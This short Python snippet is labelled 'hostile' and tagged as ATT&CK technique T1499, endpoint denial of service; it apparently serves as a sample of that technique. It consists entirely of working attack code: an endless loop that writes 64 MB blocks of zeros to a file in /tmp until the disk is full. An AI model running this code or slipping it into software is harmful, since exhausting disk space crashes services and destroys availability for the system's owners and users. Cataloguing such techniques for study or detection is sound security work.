# hostile: the disk filled with zeros (T1499 endpoint denial of service)
with open("/tmp/fill.bin", "wb") as f:
    while True:
        f.write(b"\0" * (64 * 1024 * 1024))
